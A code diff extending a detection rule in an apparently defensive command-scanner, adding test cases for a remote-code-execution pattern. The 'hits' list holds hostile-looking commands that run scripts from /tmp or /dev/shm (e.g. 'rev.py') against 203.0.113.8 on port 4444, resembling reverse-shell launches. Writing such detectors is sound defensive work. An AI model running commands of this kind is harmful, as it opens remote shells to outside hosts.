@@ -167,8 +167,16 @@ export const UNSEEN_RULES: readonly Rule[] = [
     threat: "remote_code_execution",
     explanation: "It runs code of a temporary folder, and gives it an address without a name.",
     safer: "Show the code to somebody first.",
-    hits: ["go run /tmp/r.go 203.0.113.8:4444", "python3 /tmp/rev.py 203.0.113.8 4444"],
-    misses: ["python3 /tmp/report.py", "go run ./cmd/probe 203.0.113.8:443"],
+    hits: [
+      "go run /tmp/r.go 203.0.113.8:4444",
+      "python3 /tmp/rev.py 203.0.113.8 4444",
+      "node /dev/shm/c.js 203.0.113.8",
+    ],
+    misses: [
+      "python3 /tmp/report.py",
+      "go run ./cmd/probe 203.0.113.8:443",
+      "python3 /tmp/load.py 10.0.0.7:8080",
+    ],
   }),
 ];
 
